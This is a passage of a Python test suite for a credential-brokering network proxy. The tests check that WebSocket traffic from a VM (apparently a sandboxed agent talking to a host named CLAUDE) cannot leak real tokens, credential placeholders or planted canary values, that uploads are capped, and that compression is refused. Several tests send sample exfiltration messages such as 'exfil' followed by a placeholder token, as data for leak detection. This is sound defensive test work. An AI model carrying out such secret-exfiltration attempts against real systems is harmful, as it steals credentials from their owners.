    got = websocket_server(broker, lambda got: [frame(b"pong: " + got[0], mask=False)])
    sock = tls(broker, CLAUDE)
    sock.sendall(UPGRADE + frame(b"ping"))
    answer = received(sock)
    assert answer.startswith(b"HTTP/1.1 101") and answer.endswith(frame(b"pong: ping", mask=False)), answer
    assert got == [b"ping"]
    sent = broker.upstream.requests_to(CLAUDE)[-1]
    assert sent.headers["authorization"] == f"Bearer {CLAUDE_REAL}"
    assert "sec-websocket-extensions" not in sent.headers  # no compression: every payload can be read


@pytest.mark.parametrize("split", [False, True])
def test_a_websocket_message_that_echoes_the_real_token_is_not_sent_on(broker: Harness, split: bool) -> None:
    token = CLAUDE_REAL.encode()
    frames = [frame(b"you are " + token[:10], mask=False, fin=False), frame(token[10:] + b"!", 0, mask=False)] \
        if split else [frame(b"you are " + token, mask=False)]
    websocket_server(broker, lambda got: [frame(b"hello", mask=False), *frames])
    sock = tls(broker, CLAUDE)
    sock.sendall(UPGRADE + frame(b"who am I"))
    answer = received(sock)
    assert answer.startswith(b"HTTP/1.1 101") and frame(b"hello", mask=False) in answer
    never_real(answer)
    assert "attempted leak" in broker.logged("/ws")[-1]["reason"]


def test_a_placeholder_in_a_websocket_message_from_the_vm_ends_the_relay(broker: Harness) -> None:
    got = websocket_server(broker, lambda got: [frame(b"ok", mask=False)], reads=1)
    sock = tls(broker, CLAUDE)
    sock.sendall(UPGRADE + frame(f"exfil {GH_PH}".encode()))
    received(sock)
    assert got == [] or all(GH_PH.encode() not in payload for payload in got)
    assert "attempted leak" in broker.logged("/ws")[-1]["reason"]


def test_a_canary_in_a_websocket_message_from_the_vm_ends_the_relay_as_a_leak(broker: Harness) -> None:
    values = canaries.make()
    (broker.log.parent / canaries.FILE).write_text(json.dumps({"sessions": [{"id": "s", "started": 0,
                                                                            "values": values}]}))
    got = websocket_server(broker, lambda got: [frame(b"ok", mask=False)], reads=2)
    sock = tls(broker, CLAUDE)
    sock.sendall(UPGRADE + frame(b"hello") + frame(b"note: " + values["env"][0].encode()))
    received(sock)
    assert all(values["env"][0].encode() not in payload for payload in got), got
    entry = broker.logged("/ws")[-1]
    assert entry["decision"] == "leak" and entry["what"] == "env", entry


def test_a_websocket_s_messages_count_against_the_upload_cap(broker: Harness) -> None:
    policy = netproxy.Policy(allow=[*CREDENTIAL_HOSTS], resolver=lambda host, port: [broker.upstream.address[0]],
                             allow_lan=True, upload_limit=4096)
    broker.proxy.set_policy(policy)
    got = websocket_server(broker, lambda got: [frame(b"ok", mask=False)], reads=3)
    sock = tls(broker, CLAUDE)
    sock.sendall(UPGRADE + frame(b"small") + frame(b"x" * 3000) + frame(b"y" * 3000))
    received(sock)
    assert b"y" * 3000 not in got, [len(payload) for payload in got]
    entry = broker.logged("/ws")[-1]
    assert entry["decision"] == "cap", entry


def test_a_websocket_the_server_compresses_is_refused(broker: Harness) -> None:
    websocket_server(broker, lambda got: [], reads=0, extensions="permessage-deflate")
    answer = exchange(broker, CLAUDE, UPGRADE)
    assert status_of(answer) == 502, answer
